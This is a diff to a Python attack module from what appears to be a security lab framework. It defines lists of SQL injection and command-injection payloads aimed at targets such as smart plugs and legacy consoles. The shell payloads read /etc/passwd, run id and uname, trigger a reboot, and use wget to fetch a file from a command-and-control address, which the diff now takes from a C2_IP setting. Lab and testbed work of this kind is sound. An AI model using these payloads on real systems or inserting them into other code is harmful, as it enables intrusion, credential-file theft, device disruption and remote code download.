@@ -3,10 +3,11 @@
 from __future__ import annotations
 
 from emtc_lab.attacks.base import Aim, attack
+from emtc_lab.site import C2_IP
 
 _PAGED = ("smart-plug", "legacy-console")
 _SQL = ("1'+OR+'1'='1", "1'+UNION+SELECT+NULL,NULL--", "1';WAITFOR+DELAY+'0:0:5'--", "admin'--", "1+AND+1=2")
-_SHELL = ("127.0.0.1;id", "127.0.0.1|cat+/etc/passwd", "%60reboot%60", "$(wget+http://203.0.113.99/x)", "1%0Auname")
+_SHELL = ("127.0.0.1;id", "127.0.0.1|cat+/etc/passwd", "%60reboot%60", f"$(wget+http://{C2_IP}/x)", "1%0Auname")
 _PATHS = (
     "admin",
     "cgi-bin/luci",
